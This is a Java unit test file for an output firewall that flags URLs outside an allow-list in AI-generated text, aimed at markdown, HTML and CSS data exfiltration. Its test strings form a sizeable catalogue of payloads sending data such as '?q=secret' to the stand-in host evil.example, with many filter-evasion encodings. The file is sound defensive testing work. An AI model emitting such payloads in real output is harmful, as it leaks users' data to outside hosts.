package dev.weir.governance.firewall;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ExfiltrationTest {

  private final Exfiltration exfiltration =
      new Exfiltration(Set.of("docs.example.com", ".trusted.example"));

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://evil.example/?q=secret)",
        "[x](http://evil.example/)",
        "![x][1]\n\n[1]: https://evil.example/log",
        "see https://evil.example/a",
        "<https://evil.example>",
        "<img src=\"https://evil.example/p.png\">",
        "<img src = //evil.example/p.png>",
        "![x](//evil.example/p.png)",
        "![x](https:/\\evil.example/p.png)",
        "![x](https://docs.example.com@evil.example/)",
        "![x](https://docs.example.com.evil.example/)",
        "![x](HTTPS://EVIL.example/)",
        "![x](< https://evil.example/>)",
        "[call](ftp://evil.example/file)",
        "![x][pic] and later\n\n[pic]:\n  //evil.example/p.png 'title'",
        "<ftp://evil.example/file>",
        "www.evil.example/?q=secret",
        "![x](https&#58;&#x2F;&sol;evil.example/p.png)",
        "![x](https\\://evil.example/p.png)",
        "![x](https://docs.example.com\\.evil.example/p.png)",
        "![x](https://%65vil.example/p.png)",
        "<img src='ht\ntps://evil.example/p.png'>",
        "<img srcset=\"//docs.example.com/a.png 1x, //evil.example/b.png 2x\">",
        "<a href=javascript:send()>x</a>",
        "<p style='background:url(//evil.example/p.png)'>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "![x](https://docs.example.com\u3002evil.example/p.png)",
        "{\"text\":\"![x](https:\\/\\/evil.example\\/p.png)\"}",
      })
  void findsAnAddressOutsideTheList(String output) {
    assertThat(exfiltration.check(output)).isNotEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://docs.example.com/a.png)",
        "[x](https://api.trusted.example/)",
        "see https://docs.example.com/page?x=1#y",
        "see https://docs.example.com, https://docs.example.com. And **https://docs.example.com**",
        "{\"url\":\"https://docs.example.com\",\"n\":1}",
        "![x](https&colon;//docs.example.com/p.png)",
        "www.trusted.example and ftp is old, as http: and https: are",
        "<img srcset='//docs.example.com/a.png 1x, //api.trusted.example/b.png 2x'>",
        "[x](#below), [y](other.md), [z](mailto:me)",
        "array[0](x) and a[1]: nothing",
        "auto data = std::move(x); url = next(x); src=src=src=a.png",
        "[x](https://docs.example.com), mail ann@example.com or see (https://docs.example.com).",
        "{\"html\":\"<img src=\\\"https://docs.example.com\\\">\"}",
        "caf\\u00e9 \\u003cimg src='https://docs.example.com/a.png'\\u003e",
        "plain words"
      })
  void letsAllowedAndRelativeAddressesPass(String output) {
    assertThat(exfiltration.check(output)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "[a](<b![x](https://evil.example/?q=s)",
        "data=\"x ![a](https://evil.example/?q=s)",
        "<iframe srcdoc=\"&lt;img src=&quot;https://evil.example/?q=s&quot;>\">",
        "<iframe srcdoc=\"&lt;img src=&quot;//evil.example/?q=s&quot;>\">",
        "src=\"https://docs.example.com/ ![a](https://evil.example/?q=s)",
        "![a](//docs.example.com/a![x](https://evil.example/?q=s)",
        "<img srcset=\"a.png 1x ![x](https://evil.example/?q=s)",
      })
  void findsAnAddressBehindAHarmlessOne(String output) {
    assertThat(exfiltration.check(output)).isNotEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://docs.example.com'@evil.example/?q=s)",
        "![x](https://docs.example.com\"@evil.example/?q=s)",
        "![x](https://docs.example.com`@evil.example/?q=s)",
        "![x](https://docs.example.com]@evil.example/?q=s)",
        "![x](https://docs.example.com\\)@evil.example/?q=s)",
        "![x](https://docs.example.com\\\"\\\"@evil.example/?q=s)",
        "![x](https://docs.example.com\u2003@evil.example/?q=s)",
        "![x](https://docs.example.com\u000b@evil.example/?q=s)",
        "<img src=https://docs.example.com)@evil.example/?q=s>",
        "<img src='https://docs.example.com>@evil.example/?q=s'>",
        "<img src='https://docs.example.com<@evil.example/?q=s'>",
        "<img src='https://docs.example.com<&#64evil.example/?q=s'>",
        "https://docs.example.com|@evil.example/?q=s",
        "https://docs.example.com{}@evil.example/?q=s",
      })
  void readsALoginBehindWhatEndsNoAddress(String output) {
    assertThat(exfiltration.check(output)).isNotEmpty();
    assertThat(told(output, false)).contains("evil");
  }

  @Test
  void allowsNoHostWhoseEndItDoesNotSee() {
    String hidden = "![x](https://docs.example.com:" + "0".repeat(5_000);

    assertThat(told(hidden, false)).isNotEmpty();
    assertThat(told(hidden + "@evil.example/?q=s)", true)).isNotEmpty();
    assertThat(told("![x](https://docs.example.com'" + "a".repeat(500), false)).isNotEmpty();
    assertThat(told("![x](&#" + "0".repeat(5_000) + "104;ttps://evil.example/)", true))
        .isNotEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"u\":\"\\u0068ttps://evil.example/?q=s\"}",
        "{\"u\":\"https\\u003a\\u002F\\u002fevil.example/?q=s\"}",
        "![x](&#104ttps://evil.example/?q=s)",
        "![x](&#x68ttps://evil.example/?q=s)",
        "![x](&#0000000000104;ttps://evil.example/?q=s)",
        "![x](&#x0000000000068;ttps://evil.example/?q=s)",
        "<iframe src=\"data:text/html,x\">",
        "[x](tel:+15550100)",
        "[x](sms:+15550100?body=s)",
        "[x](intent:s)",
        "<a href='blob:s'>x</a>",
        "<img src            = //evil.example/?q=s>",
        "@import \"//evil.example/?q=s\"",
        "background: image-set(\"//evil.example/?q=s\" 1x)",
        "background: image-set('a.png' 1x, '//evil.example/?q=s' 2x)",
        "background: url(\\2f\\2f evil.example/?q=s)",
        "background: url('\\68 ttps://evil.example/?q=s')",
      })
  void readsAddressesHoweverTheyAreWritten(String output) {
    assertThat(exfiltration.check(output)).isNotEmpty();
  }

  @Test
  void findsAnAddressBehindMuchWhiteSpace() {
    String space = " ".repeat(1_000);

    assertThat(told("<img src=" + space + "//evil.example/>", true)).isNotEmpty();
    assertThat(told("<img src=" + space, false)).isNotEmpty();
    assertThat(told("<img src=" + " ".repeat(100) + "//evil.example/>", true)).isNotEmpty();
    assertThat(told("<img src" + space + "=//evil.example/>", true)).isNotEmpty();
    assertThat(told(space + "=//evil.example/>", true)).isNotEmpty();
  }

  @Test
  void saysWhereAnEscapedAddressStood() {
    assertThat(told("see \\u0068ttps://evil.example/a now", true))
        .isEqualTo("[\\u0068ttps://evil.example/a]");
  }

  @Test
  void tellsAllThatFollowsAsOneLeakWhereThereAreTooMany() {
    String many = "![x](https://evil.example/) ".repeat(150);

    var leaks = exfiltration.check(many);

    assertThat(leaks).hasSize(Exfiltration.LEAKS_MAX);
    assertThat(leaks.getLast().end()).isEqualTo(many.length());
  }

  @Test
  void saysWhereInCodePointsAndHow() {
    String output =
        "\ud83d\ude00 ![x](https://evil.example/) and <img src='https://evil.example/'>";

    assertThat(exfiltration.check(output))
        .containsExactly(
            new Exfiltration.Leak(Exfiltration.Way.IMAGE, 7, 28),
            new Exfiltration.Leak(Exfiltration.Way.HTML, 44, 65));
  }

  @Test
  void waitsForTheWholeHostWhileMoreMayCome() {
    assertThat(told("![x](https://docs.exam", false)).isEmpty();
    assertThat(told("![x](https&#4", false)).isEmpty();
    assertThat(told("![x](https://docs.exam", true)).isEqualTo("[https://docs.exam]");
    assertThat(told("![x](https://evil.example/", false)).isEqualTo("[https://evil.example/]");
    assertThat(told("![x](https://evil.example)", false)).isEqualTo("[https://evil.example]");
    assertThat(told("![x](https://" + "e".repeat(400), false)).isNotEmpty();
  }

  private String told(String text, boolean ended) {
    StringBuilder told = new StringBuilder();
    exfiltration.find(
        text, ended, (_, start, end) -> told.append('[').append(text, start, end).append(']'));
    return told.toString();
  }

  @Test
  void staysBoundedOnManyAddresses() {
    assertThat(exfiltration.check("![x](https://evil.example/) ".repeat(10_000)))
        .hasSize(Exfiltration.LEAKS_MAX);
  }
}
